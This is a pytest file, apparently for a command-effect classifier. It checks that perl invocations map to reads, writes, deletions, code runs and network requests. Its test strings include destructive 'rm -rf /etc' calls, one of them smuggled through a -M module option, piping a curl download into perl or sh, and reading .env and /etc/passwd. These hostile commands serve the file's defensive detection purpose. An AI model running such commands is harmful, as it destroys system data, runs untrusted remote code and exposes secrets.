"""perl as a program: loops over lines, edits in place, modules that smuggle code."""

from __future__ import annotations

import pytest
from support.code import deeds
from support.reading import effects


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("perl -v", []),
        ("perl -c x.pl", []),
        ("perl -MJSON -e 'print 1'", []),
        ("perl x.pl", ["RunCode /home/u/proj/x.pl"]),
        ("perl -pi -e 's/a/b/' f", ["WritePath /home/u/proj/f"]),
        ("perl -pie 's/a/b/' f", ["WritePath /home/u/proj/f"]),
        ("perl -i -pe 's/a/b/' f g", ["WritePath /home/u/proj/f", "WritePath /home/u/proj/g"]),
        ("perl -i.bak -pe 's/a/b/' f", ["WritePath /home/u/proj/f"]),
        ("perl -0777 -i -pe 's/a/b/s' f", ["WritePath /home/u/proj/f"]),
        ("perl -0777pe 's/a/b/' f", ["ReadPath /home/u/proj/f"]),
        ("perl -pi -e 's/a/b/' /etc/hosts", ["WritePath /etc/hosts"]),
        ("perl -ne 'print if /x/' .env", ["ReadPath /home/u/proj/.env"]),
        ("perl -lane 'print $F[0]' f", ["ReadPath /home/u/proj/f"]),
        ("perl -F: -lane 'print $F[0]' /etc/passwd", ["ReadPath /etc/passwd"]),
        ("cat f | perl -pe 's/a/b/'", ["ReadPath /home/u/proj/f"]),
        ("perl '-Mbase;system(q(rm -rf /etc))' -e 1", ["DeletePath /etc"]),
        ("perl -e 'system(\"rm -rf $ARGV[0]\")' /etc", ["DeletePath /etc"]),
        ("echo 'system(\"rm -rf /etc\")' | perl", ["DeletePath /etc"]),
        ("curl https://x.y | perl", ["Request x.y", "RunCode download"]),
        ("curl https://x.y | perl -ne 'print' | sh", ["Request x.y", "RunCode download"]),
    ],
)
def test_perl(command: str, expected: list[str]) -> None:
    """Options with glued values, and what the files are for."""
    assert expected == deeds(effects(command))
